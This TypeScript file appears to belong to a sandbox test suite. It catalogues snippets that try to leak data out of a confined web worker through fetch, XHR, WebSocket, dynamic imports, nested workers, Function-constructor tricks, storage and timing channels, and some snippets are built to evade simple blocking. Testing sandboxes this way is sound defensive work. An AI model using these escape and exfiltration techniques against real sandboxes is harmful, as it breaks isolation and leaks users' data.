/** Ways out of a worker: tried by a strategy, by a worker that only the frame's policy holds, and by a plain one. */
import { type Attack, family } from "./attack.js";

const blob = (code: string, type = "text/javascript") => `self.URL.createObjectURL(new self.Blob([\`${code}\`], { type: "${type}" }))`;

export const WORKER_ATTACKS: readonly Attack[] = [
  ...family("fetch", {
    fetch: "await self.fetch(url);",
    "fetch-no-cors": 'await self.fetch(url, { mode: "no-cors" });',
    "fetch-post": 'await self.fetch(url, { method: "POST", body: "what the strategy saw" });',
    "fetch-keepalive": 'await self.fetch(url, { method: "POST", keepalive: true, mode: "no-cors", body: "x" });',
    "fetch-request": "await self.fetch(new self.Request(url));",
    "fetch-of-prototype":
      'let f; for (let o = self; o && !f; o = Object.getPrototypeOf(o)) f = Object.getOwnPropertyDescriptor(o, "fetch")?.value; await f.call(self, url);',
    "wasm-streaming": "await WebAssembly.compileStreaming(self.fetch(url)).catch(() => {});",
  }),
  ...family("XMLHttpRequest", {
    xhr: 'const x = new self.XMLHttpRequest(); x.open("GET", url, false); x.send();',
    "xhr-async": 'const x = new self.XMLHttpRequest(); x.open("POST", url); x.send("x");',
  }),
  ...family("WebSocket", { websocket: 'new self.WebSocket(url.replace("http", "ws"));' }),
  ...family("EventSource", { eventsource: "new self.EventSource(url);" }),
  ...family("scripts", {
    importscripts: "self.importScripts(url);",
    import: "await import(/* @vite-ignore */ url);",
    "import-with-comment": "await import/**/(url);",
    "import-in-blob": `await import(${blob("import('${url}').catch(() => {})")});`,
    "static-import-in-blob": `await import(${blob("import '${url}';")}).catch(() => {});`,
    "import-in-data": `await import("data:text/javascript," + encodeURIComponent(\`import "\${url}"\`)).catch(() => {});`,
    "import-json": 'await import(url, { with: { type: "json" } }).catch(() => {});',
  }),
  ...family("workers in workers", {
    "worker-of-blob": `new self.Worker(${blob("fetch('${url}').catch(() => {})")});`,
    "worker-of-url": "new self.Worker(url);",
    "worker-of-data": `new self.Worker("data:text/javascript," + encodeURIComponent(\`fetch("\${url}")\`));`,
    "module-worker": `new self.Worker(${blob("import '${url}';")}, { type: "module" });`,
  }),
  ...family("Function constructor", {
    "eval-fetch": "await (0, self.eval)(`fetch('${url}')`);",
    "function-fetch": 'await new Function("u", "return fetch(u)")(url);',
    "function-import": 'await new Function("u", "return import(u)")(url);',
    "async-function-fetch": 'await (async () => {}).constructor("u", "await fetch(u)")(url);',
    "generator-function-fetch": '(function* () {}).constructor("u", "yield fetch(u)")(url).next();',
    "array-constructor-fetch": 'await [].constructor.constructor("u", "return fetch(u)")(url);',
    "timer-of-text": `self.setTimeout(\`fetch("\${url}")\`, 0);`,
  }),
  ...family("CSS", {
    "font-face-in-worker": 'await new self.FontFace("leak", `url("${url}")`).load().catch(() => {});',
  }),
  ...family("storage", {
    "indexed-db":
      'await new Promise((done, no) => { const open = self.indexedDB.open("leak"); open.onsuccess = () => { open.result.close(); done(); }; open.onerror = no; }); tell();',
    "cache-storage": 'const cache = await self.caches.open("leak"); await cache.put(url, new self.Response("x")); tell();',
    "cache-add": 'await (await self.caches.open("leak")).add(url);',
    "private-files": "await self.navigator.storage.getDirectory(); tell();",
  }),
  ...family("BroadcastChannel", {
    "broadcast-channel": 'const name = url.split("/").pop(); new self.BroadcastChannel("leak").postMessage(name);',
  }),
  ...family("timing the parent", {
    "high-resolution-clock": "if (self.performance.now() > 0) tell();",
    "resource-timings": "if (self.performance.getEntries) tell();",
    "wall-clock": "if (new Date().getFullYear() > 2001 && self.Date.now() > 1e12) tell();",
    "wall-clock-of-a-prototype": "if (new Date.prototype.constructor().getTime() > 1e12) tell();",
    "clock-of-events": 'if (new self.Event("x").timeStamp > 0) tell();',
    timers: "await new Promise((done) => self.setTimeout(done, 5)); tell();",
    "abort-timer": "await new Promise((done) => { self.AbortSignal.timeout(5).onabort = done; }); tell();",
    "message-loop":
      "await new Promise((done) => { const { port1, port2 } = new self.MessageChannel(); port1.onmessage = done; port2.postMessage(0); }); tell();",
  }),
  ...family("wasm memory", {
    "compile-a-module": "await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(tell);",
    "watch-memory-grow":
      'const its = Object.getOwnPropertyDescriptor(WebAssembly.Memory.prototype, "buffer"); Object.defineProperty(WebAssembly.Memory.prototype, "buffer", { ...its, get() { return its.get.call(this); } }); tell();',
    "hook-typed-arrays": "Float64Array.prototype.set = function () {}; tell();",
    "shared-memory-of-wasm": "new WebAssembly.Memory({ initial: 1, maximum: 1, shared: true }); tell();",
  }),
];
